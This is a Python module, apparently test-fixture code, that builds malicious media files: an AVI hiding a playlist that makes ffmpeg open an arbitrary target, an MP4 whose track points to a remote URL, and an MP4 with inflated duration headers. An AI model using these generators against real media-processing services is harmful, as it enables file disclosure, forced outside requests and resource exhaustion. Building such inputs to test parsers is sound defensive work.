"""Files that mean harm, made out of good ones."""

import struct
from pathlib import Path


def hidden_playlist(film: Path, target: str) -> bytes:
    """An AVI with a subtitle stream whose data is a playlist: ffmpeg once opened whatever it named."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{target}\n#EXT-X-ENDLIST\n".encode()
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"a\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    chunk = b"02tx" + struct.pack("<I", len(gab2)) + gab2 + b"\0" * (len(gab2) % 2)
    header = b"txts" + bytes(16) + struct.pack("<IIIIIIII", 1, 25, 0, 1, 0, 0, 0, 0) + bytes(4)
    strl = b"strl" + b"strh" + struct.pack("<I", len(header)) + header + b"strf" + struct.pack("<I", 0)
    data = film.read_bytes()
    movi, hdrl = data.index(b"movi"), data.index(b"hdrl")
    begin = hdrl - 4
    size = struct.unpack("<I", data[begin : begin + 4])[0]
    end = hdrl + size
    headers = data[hdrl:end] + b"LIST" + struct.pack("<I", len(strl)) + strl
    movi_size = struct.unpack("<I", data[movi - 4 : movi])[0]
    body = b"movi" + chunk + data[movi + 4 : movi + movi_size]
    content = (
        b"AVI " + b"LIST" + struct.pack("<I", len(headers)) + headers + b"LIST" + struct.pack("<I", len(body)) + body
    )
    return b"RIFF" + struct.pack("<I", len(content)) + content


def remote_track(film: Path, address: str) -> bytes:
    """A film whose first track says that its samples lie elsewhere; its table of contents stands at the end."""
    data = bytearray(film.read_bytes())
    here = b"\0\0\0\x0curl \0\0\0\x01"
    at = data.index(here)
    url = b"\0\0\0\0" + address.encode() + b"\0"
    elsewhere = struct.pack(">I", 8 + len(url)) + b"url " + url
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        size_at = data.rindex(name, 0, at) - 4
        size = struct.unpack(">I", data[size_at : size_at + 4])[0] + len(elsewhere) - len(here)
        data[size_at : size_at + 4] = struct.pack(">I", size)
    data[at : at + len(here)] = elsewhere
    return bytes(data)


def claimed_hours(film: Path, hours: int) -> bytes:
    """An MP4 whose every header claims to be so many hours long."""
    data = bytearray(film.read_bytes())
    # Where the length stands behind the name of the box, and where the units of a second, if it has its own.
    for name, length_at, scale_at in ((b"mvhd", 20, 16), (b"mdhd", 20, 16), (b"tkhd", 24, None)):
        at = -1
        while (at := data.find(name, at + 1)) >= 0:
            movie_scale = struct.unpack_from(">I", data, data.index(b"mvhd") + 16)[0]
            scale = struct.unpack_from(">I", data, at + scale_at)[0] if scale_at else movie_scale
            struct.pack_into(">I", data, at + length_at, min(hours * 3600 * scale, 0xFFFFFFFE))
    return bytes(data)
